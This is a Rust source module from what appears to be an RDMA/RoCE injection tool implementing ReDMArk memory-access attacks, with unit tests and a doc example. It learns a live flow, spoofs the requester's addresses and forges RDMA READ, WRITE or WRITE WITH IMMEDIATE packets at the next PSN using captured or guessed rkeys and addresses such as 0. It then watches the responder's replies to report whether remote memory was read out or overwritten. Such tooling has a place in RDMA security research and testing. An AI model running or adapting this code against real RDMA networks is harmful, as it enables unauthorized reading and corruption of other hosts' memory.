//! Memory-access attacks (ReDMArk): an RDMA READ, a plain RDMA WRITE or a WRITE WITH IMMEDIATE
//! aimed at the responder's memory with an rkey and address of the attacker's choosing — the
//! live flow's observed ones, or others (a previous session's saved rkey, address 0) — and
//! what the responder answers: READ responses (memory read out), an ACK (the access was
//! granted), or a NAK and its syndrome (refused).
//!
//! A forged request is sent at the learned flow's next PSN, from the requester's addresses,
//! like [`crate::forge::forge`]'s; afterwards the interface is watched for the responder's
//! answers to that PSN, so a run reports by itself whether the memory was read or written.
//!
//! ```
//! use rdma_inject::learn::FlowLearner;
//! use rdma_inject::memory::{forge_access, MemoryAccess, MemoryOp};
//! use roce::{Opcode, PacketBuilder, Reth};
//!
//! // A captured WRITE WITH IMMEDIATE shows the responder's rkey ...
//! let seen = PacketBuilder::new(Opcode::RC_RDMA_WRITE_ONLY_IMM)
//!     .ipv4([10, 77, 0, 2].into(), [10, 77, 0, 1].into())
//!     .dest_qp(17)
//!     .psn(41)
//!     .reth(Reth { va: 0x1000, rkey: 0x1234, dma_len: 5 })
//!     .immdt(roce::ImmDt(5))
//!     .payload(*b"hello")
//!     .frame()?;
//! let mut learner = FlowLearner::new(None);
//! learner.observe(&roce::decode_ethernet(&seen)?);
//! // ... and an RDMA READ of address 0 with it is one packet at the next PSN.
//! let read = MemoryAccess { op: MemoryOp::Read { len: 64 }, rkey: None, addr: None };
//! let forged = forge_access(learner.flow().unwrap(), &read)?;
//! let p = roce::decode_ethernet(&forged.frame)?;
//! let reth = p.ext.reth.unwrap();
//! assert_eq!((p.bth.psn, reth.rkey, reth.va, reth.dma_len), (42, 0x1234, 0, 64));
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

use std::io::Write;
use std::time::{Duration, Instant};

use roce::{AethSyndrome, ImmDt, Opcode, Operation, PacketBuilder, Reth};
use serde::Serialize;

use crate::forge::{next_request, ForgeError, Forged};
use crate::learn::Flow;
use crate::net::Observer;
use crate::plan::LearnOptions;
use crate::report::{Reporter, Summary};
use crate::run::{learn_live, out, sockets, RunError, Seen};

/// The memory operation to forge.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum MemoryOp {
    /// RC RDMA READ Request of `len` bytes.
    Read {
        /// Bytes asked for.
        len: u32,
    },
    /// RC RDMA WRITE Only (no immediate: the responder raises no completion).
    Write {
        /// The bytes written.
        data: Vec<u8>,
    },
    /// RC RDMA WRITE Only with Immediate.
    WriteImm {
        /// The bytes written.
        data: Vec<u8>,
        /// The immediate; `None`: the payload length, as this project's server reads it.
        imm: Option<u32>,
    },
}

impl MemoryOp {
    fn name(&self) -> &'static str {
        match self {
            MemoryOp::Read { .. } => "read",
            MemoryOp::Write { .. } => "write",
            MemoryOp::WriteImm { .. } => "write_imm",
        }
    }
}

/// A memory access to forge: the operation, and the rkey and address it names.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct MemoryAccess {
    /// What to do.
    pub op: MemoryOp,
    /// The rkey; `None`: the one the flow's observed WRITE used.
    pub rkey: Option<u32>,
    /// The address; `None`: 0 for a READ (the start of a zero-based region, or of the
    /// responder's address space), the observed WRITE's address for a WRITE.
    pub addr: Option<u64>,
}

/// The frame of `access` at the flow's next PSN.
pub fn forge_access(flow: &Flow, access: &MemoryAccess) -> Result<Forged, ForgeError> {
    let observed = flow.write;
    let rkey = match (access.rkey, observed) {
        (Some(k), _) => k,
        (None, Some(w)) => w.rkey,
        (None, None) => {
            return Err(ForgeError::NoWriteObserved {
                dst: flow.dst_ip,
                qpn: flow.dst_qpn,
            })
        }
    };
    let va = match (&access.op, access.addr, observed) {
        (_, Some(a), _) => a,
        (MemoryOp::Read { .. }, None, _) => 0,
        (_, None, Some(w)) => w.va,
        (_, None, None) => {
            return Err(ForgeError::NoWriteObserved {
                dst: flow.dst_ip,
                qpn: flow.dst_qpn,
            })
        }
    };
    let base = next_request(flow);
    let len_of =
        |data: &[u8]| u32::try_from(data.len()).map_err(|_| ForgeError::PayloadTooLong(data.len()));
    let (b, payload_len): (PacketBuilder, usize) = match &access.op {
        MemoryOp::Read { len } => (
            base.with_opcode(Opcode::RC_RDMA_READ_REQUEST).reth(Reth {
                va,
                rkey,
                dma_len: *len,
            }),
            0,
        ),
        MemoryOp::Write { data } => (
            base.with_opcode(Opcode::RC_RDMA_WRITE_ONLY)
                .reth(Reth {
                    va,
                    rkey,
                    dma_len: len_of(data)?,
                })
                .payload(data.clone()),
            data.len(),
        ),
        MemoryOp::WriteImm { data, imm } => {
            let len = len_of(data)?;
            (
                base.with_opcode(Opcode::RC_RDMA_WRITE_ONLY_IMM)
                    .solicited(true)
                    .reth(Reth {
                        va,
                        rkey,
                        dma_len: len,
                    })
                    .immdt(ImmDt(imm.unwrap_or(len)))
                    .payload(data.clone()),
                data.len(),
            )
        }
    };
    Ok(Forged {
        frame: b.frame()?,
        opcode: b.opcode(),
        dst_qpn: flow.dst_qpn,
        psn: flow.next_psn,
        payload_len,
    })
}

/// A NAK the responder sent.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct NakSeen {
    /// The PSN it names.
    pub psn: u32,
    /// The syndrome, e.g. "NAK code=2 (remote access error)".
    pub syndrome: String,
}

/// What the responder sent back towards the requester after the forged request, counted
/// for the injected PSN only (its answers to the genuine requester's later traffic are not
/// the attack's).
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
pub struct Answers {
    /// READ Response packets: memory read out and sent.
    pub read_responses: u64,
    /// Payload bytes those READ responses carried.
    pub read_bytes: u64,
    /// Positive ACKs: the access was carried out.
    pub acks: u64,
    /// NAKs (and RNR NAKs): the access was refused.
    pub naks: Vec<NakSeen>,
    /// Responses of the responder to other PSNs seen while watching.
    pub other_responses: u64,
}

/// The memory mode's summary.
#[derive(Clone, Debug, Serialize)]
pub struct MemorySummary {
    /// The interface observed and sent on.
    pub iface: String,
    /// `read`, `write` or `write_imm`.
    pub op: &'static str,
    /// The rkey the forged request named.
    pub rkey: u32,
    /// The address it named.
    pub addr: u64,
    /// Its PSN.
    pub psn: u32,
    /// The learned flow.
    pub flow: Flow,
    /// What came back within the watch time.
    pub answers: Answers,
    /// How long the answers were watched for, in milliseconds.
    pub watched_ms: u64,
    /// Milliseconds from start to the end.
    pub elapsed_ms: u64,
}

impl MemorySummary {
    /// One line of text.
    pub fn text(&self) -> String {
        let naks: Vec<String> = self
            .answers
            .naks
            .iter()
            .map(|n| n.syndrome.clone())
            .collect();
        format!(
            "memory {} rkey {:#x} addr {:#x} PSN {:#08x} on {}: {} READ response packets ({} \
             bytes), {} ACKs, NAKs [{}] within {} ms",
            self.op,
            self.rkey,
            self.addr,
            self.psn,
            self.iface,
            self.answers.read_responses,
            self.answers.read_bytes,
            self.answers.acks,
            naks.join(", "),
            self.watched_ms
        )
    }
}

/// Watches `obs` for `watch` and sorts the responder's answers to `psn` on `flow`.
fn watch_answers(
    obs: &mut Observer,
    flow: &Flow,
    psn: u32,
    watch: Duration,
) -> Result<Answers, RunError> {
    let deadline = Instant::now() + watch;
    let mut answers = Answers::default();
    loop {
        let now = Instant::now();
        if now >= deadline {
            return Ok(answers);
        }
        let Some(frame) = obs.next(deadline - now)? else {
            continue;
        };
        let Ok(p) = roce::decode_ethernet(frame.frame) else {
            continue;
        };
        let from_responder = p.src().map(|a| a.ip()) == Some(flow.dst_ip)
            && p.dst().map(|a| a.ip()) == Some(flow.src_ip);
        let op = p.opcode().operation();
        if !from_responder || !op.is_response() {
            continue;
        }
        if p.bth.psn != psn {
            answers.other_responses += 1;
            continue;
        }
        match op {
            Operation::ReadResponseFirst
            | Operation::ReadResponseMiddle
            | Operation::ReadResponseLast
            | Operation::ReadResponseOnly => {
                answers.read_responses += 1;
                answers.read_bytes += p.payload.len() as u64;
            }
            _ => match p.ext.aeth.map(|a| a.syndrome) {
                Some(s @ (AethSyndrome::Nak(_) | AethSyndrome::RnrNak { .. })) => {
                    answers.naks.push(NakSeen {
                        psn: p.bth.psn,
                        syndrome: s.to_string(),
                    })
                }
                Some(AethSyndrome::Ack { .. }) => answers.acks += 1,
                _ => answers.other_responses += 1,
            },
        }
    }
}

/// Learns the flow, sends the forged access at its next PSN, and watches the answers for
/// `watch`.
pub fn run_memory<W: Write>(
    opts: &LearnOptions,
    access: &MemoryAccess,
    watch: Duration,
    rep: &mut Reporter<W>,
) -> Result<(), RunError> {
    let start = Instant::now();
    let (iface, sender, mut obs) = sockets(&opts.iface)?;
    let mut seen = Seen::default();
    let flow = learn_live(&mut obs, opts, None, None, &mut seen)?;
    rep.learned(&flow).map_err(out)?;
    let forged = forge_access(&flow, access)?;
    let reth = roce::decode_ethernet(&forged.frame)
        .ok()
        .and_then(|p| p.ext.reth);
    sender.send(&forged.frame)?;
    rep.injected(&forged).map_err(out)?;
    let watching = Instant::now();
    let answers = watch_answers(&mut obs, &flow, forged.psn, watch)?;
    rep.summary(&Summary::Memory(MemorySummary {
        iface: iface.name().to_owned(),
        op: access.op.name(),
        rkey: reth.map_or(0, |r| r.rkey),
        addr: reth.map_or(0, |r| r.va),
        psn: forged.psn,
        flow,
        answers,
        watched_ms: u64::try_from(watching.elapsed().as_millis()).unwrap_or(u64::MAX),
        elapsed_ms: u64::try_from(start.elapsed().as_millis()).unwrap_or(u64::MAX),
    }))
    .map_err(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::learn::FlowLearner;

    fn flow(with_write: bool) -> Flow {
        let b = PacketBuilder::new(if with_write {
            Opcode::RC_RDMA_WRITE_ONLY_IMM
        } else {
            Opcode::RC_SEND_ONLY
        })
        .ipv4([10, 77, 0, 2].into(), [10, 77, 0, 1].into())
        .dest_qp(0x11)
        .psn(0xff_ffff)
        .payload(*b"abc");
        let b = if with_write {
            b.reth(Reth {
                va: 0x40,
                rkey: 0x77,
                dma_len: 3,
            })
            .immdt(ImmDt(3))
        } else {
            b
        };
        let mut l = FlowLearner::new(None);
        l.observe(&roce::decode_ethernet(&b.frame().unwrap()).unwrap());
        l.flow().unwrap().clone()
    }

    #[test]
    fn overrides_win_and_reads_default_to_address_zero() {
        let f = flow(true);
        let write = MemoryAccess {
            op: MemoryOp::Write {
                data: b"XY".to_vec(),
            },
            rkey: Some(0xabcd),
            addr: None,
        };
        let forged = forge_access(&f, &write).unwrap();
        let p = roce::decode_ethernet(&forged.frame).unwrap();
        assert!(p.icrc_ok);
        assert_eq!(p.opcode(), Opcode::RC_RDMA_WRITE_ONLY);
        let reth = p.ext.reth.unwrap();
        assert_eq!((reth.rkey, reth.va, reth.dma_len), (0xabcd, 0x40, 2));
        // The PSN wraps at 2^24.
        assert_eq!(p.bth.psn, 0);
        let read = MemoryAccess {
            op: MemoryOp::Read { len: 16 },
            rkey: None,
            addr: None,
        };
        let p2 = forge_access(&f, &read).unwrap();
        let p2 = roce::decode_ethernet(&p2.frame).unwrap();
        let reth = p2.ext.reth.unwrap();
        assert_eq!((reth.rkey, reth.va, p2.payload.len()), (0x77, 0, 0));
        let imm = MemoryAccess {
            op: MemoryOp::WriteImm {
                data: b"four".to_vec(),
                imm: None,
            },
            rkey: Some(1),
            addr: Some(8),
        };
        let p3 = forge_access(&f, &imm).unwrap();
        let p3 = roce::decode_ethernet(&p3.frame).unwrap();
        assert_eq!(p3.ext.immdt, Some(ImmDt(4)));
        assert_eq!(p3.ext.reth.unwrap().va, 8);
    }

    #[test]
    fn without_an_observed_write_an_rkey_must_be_given() {
        let f = flow(false);
        let read = MemoryAccess {
            op: MemoryOp::Read { len: 8 },
            rkey: None,
            addr: None,
        };
        assert!(matches!(
            forge_access(&f, &read),
            Err(ForgeError::NoWriteObserved { .. })
        ));
        let given = MemoryAccess {
            rkey: Some(5),
            ..read
        };
        assert!(forge_access(&f, &given).is_ok());
    }
}
